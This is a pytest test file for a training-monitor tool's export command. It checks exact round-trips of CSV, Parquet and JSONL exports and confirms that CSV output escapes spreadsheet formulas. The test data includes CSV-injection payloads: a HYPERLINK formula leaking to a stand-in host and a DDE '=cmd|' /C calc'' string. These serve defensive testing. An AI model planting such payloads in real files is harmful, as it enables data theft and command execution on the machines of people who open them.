"""``gradwatch export``: the three tables written as CSV, Parquet or JSON Lines read back
equal to the DataFrames (NaN, ±Inf and -0.0 included)."""

from __future__ import annotations

import math
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

import gradwatch
from gradwatch.analysis.export import TABLES, read_table
from gradwatch.cli import main
from tests.collector.analysis.recorded import BAD_STEP, train


@pytest.fixture(scope="module")
def bad_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("GRADWATCH_DIR", str(tmp_path_factory.mktemp("export-data")))
        return Path(train(bad=True).dir)


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
def test_export_round_trips_exactly(
    fmt: str, bad_run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    assert main(["export", str(bad_run), "--format", fmt, "--out", str(out)]) == 0
    written = capsys.readouterr().out.split()
    assert written == [str(out / f"{t}.{fmt}") for t in TABLES]
    data = gradwatch.open_run(bad_run)
    back = {t: read_table(out / f"{t}.{fmt}") for t in TABLES}
    pd.testing.assert_frame_equal(back["steps"], data.steps)
    pd.testing.assert_frame_equal(back["tensors"], data.tensors)
    pd.testing.assert_frame_equal(back["findings"], data.findings)
    steps = back["steps"]
    assert steps.loss[BAD_STEP] == math.inf and math.isnan(steps.loss[BAD_STEP + 1])
    assert {math.inf, -math.inf} <= set(steps.spike) and math.copysign(1, steps.spike[34]) < 0
    assert back["findings"].details[0]["loss"] == math.inf


def test_jsonl_is_strict_json(bad_run: Path, tmp_path: Path) -> None:
    import json

    assert main(["export", str(bad_run), "--format", "jsonl", "--out", str(tmp_path)]) == 0
    for line in (tmp_path / "steps.jsonl").read_text().splitlines():
        json.loads(line, parse_constant=lambda c: pytest.fail(f"non-standard JSON {c}"))


def test_parquet_without_pyarrow_says_so_and_writes_nothing(bad_run: Path, tmp_path: Path) -> None:
    code = (
        "import sys; sys.modules['pyarrow'] = None; from gradwatch.cli import main; "
        f"sys.exit(main(['export', {str(bad_run)!r}, '--format', 'parquet', "
        f"'--out', {str(tmp_path / 'out')!r}]))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert done.returncode == 2
    assert done.stderr.strip() == (
        "gradwatch export: --format parquet (or use csv or jsonl) needs pyarrow, which is "
        "not installed; pip install pyarrow"
    )
    assert not (tmp_path / "out").exists()


def test_an_unknown_run_is_exit_status_2(
    bad_run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = [
        "export",
        "nope",
        "--data-dir",
        str(bad_run.parent.parent),
        "--out",
        str(tmp_path / "x"),
    ]
    assert main(argv) == 2
    assert capsys.readouterr().err.startswith("gradwatch export: no run 'nope' in ")
    assert not (tmp_path / "x").exists()


FORMULAS = ('=HYPERLINK("http://x/?leak","click")', "+1", "@SUM(A1)", "-cmd", "\tx", "=1+2")


def test_csv_export_is_safe_to_open_in_a_spreadsheet(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Scalars, a parameter and a run named and configured with formulas: no text cell of
    the CSV files starts a formula, numbers stay numbers, and read_table gives it all back."""
    import csv

    import torch
    from torch import nn

    monkeypatch.setenv("GRADWATCH_DIR", str(tmp_path / "data"))
    torch.manual_seed(0)
    model = nn.ModuleDict({"net": nn.Linear(3, 1), "=cmd|' /C calc'!A0": nn.Linear(3, 1)})
    opt = torch.optim.SGD(model.parameters(), lr=0.1)
    config = {"lr": "-1+1", "note": '=HYPERLINK("http://x/")', "by": "@SUM(A1)"}
    with gradwatch.watch(model, opt, name=FORMULAS[0], config=config) as run:
        for step in range(24):
            opt.zero_grad()
            model["net"](torch.randn(4, 3)).pow(2).mean().backward()  # the other never runs
            opt.step()
            run.log({name: float(step) for name in FORMULAS} | {"neg": -1.5, "tiny": 1e-3})
            run.log({"worst": [-math.inf, math.nan][step % 2]})
    out = tmp_path / "out"
    assert main(["export", str(run.dir), "--format", "csv", "--out", str(out)]) == 0
    data = gradwatch.open_run(run.dir)
    assert any("=cmd" in str(p) for p in data.findings.param), "no finding names the parameter"
    cells = []
    for table in TABLES:
        with (out / f"{table}.csv").open(newline="", encoding="utf-8") as f:
            cells += [cell for row in csv.reader(f) for cell in row]
    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(_is_number(c) for c in formulas), sorted(set(formulas))[:10]  # numbers stay
    for name in FORMULAS:
        assert f"'{name}" in cells
    assert any(c.startswith("'=cmd|") for c in cells)  # tensor names and finding params
    assert {"-1.5", "-inf", "0.001", "NaN"} <= set(cells)
    back = {t: read_table(out / f"{t}.csv") for t in TABLES}
    pd.testing.assert_frame_equal(back["steps"], data.steps)
    pd.testing.assert_frame_equal(back["tensors"], data.tensors)
    pd.testing.assert_frame_equal(back["findings"], data.findings)
    assert set(FORMULAS) <= set(back["steps"].columns)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
